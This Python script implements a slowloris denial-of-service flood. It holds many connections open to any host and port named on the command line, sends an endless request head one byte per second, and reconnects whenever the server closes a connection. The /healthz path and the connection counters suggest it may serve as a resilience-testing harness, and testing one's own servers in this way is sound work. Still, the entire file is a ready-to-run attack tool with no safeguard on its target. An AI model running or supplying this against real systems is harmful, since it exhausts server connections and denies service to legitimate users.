"""A slow-client flood: `python slowloris.py HOST PORT N` keeps N connections open, each sending
one byte of a never-finished request head per second; a connection the server closes is
reopened a second later, as a real slow-client attacker would. Runs until SIGTERM/SIGINT.

On exit it prints ``connected=.. reconnects=..`` on stderr.
"""

from __future__ import annotations

import asyncio
import signal
import sys

HEAD = b"GET /healthz HTTP/1.1\r\nHost: flood\r\nX-Slow: "


async def client(host: str, port: int, stats: dict[str, int], stop: asyncio.Event) -> None:
    while not stop.is_set():
        try:
            async with asyncio.timeout(10):  # not wait_for: on 3.11 it can swallow a cancel
                _, writer = await asyncio.open_connection(host, port)
        except (OSError, TimeoutError):
            await asyncio.sleep(1.0)
            continue
        stats["connected"] += 1
        try:
            writer.write(HEAD[:1])
            for byte in HEAD[1:] + b"a" * 100_000:
                await asyncio.sleep(1.0)
                writer.write(bytes([byte]))
                await writer.drain()
        except (OSError, ConnectionError):
            pass
        finally:
            writer.close()
        stats["connected"] -= 1
        stats["reconnects"] += 1
        await asyncio.sleep(1.0)


async def main(host: str, port: int, count: int) -> None:
    stats = {"connected": 0, "reconnects": 0}
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for signum in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(signum, stop.set)
    tasks = []
    for _ in range(count):
        tasks.append(asyncio.create_task(client(host, port, stats, stop)))
        await asyncio.sleep(0)  # let the connect start: a burst, not one at a time
    await stop.wait()
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks, timeout=2.0)
    print(f"connected={stats['connected']} reconnects={stats['reconnects']}", file=sys.stderr)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
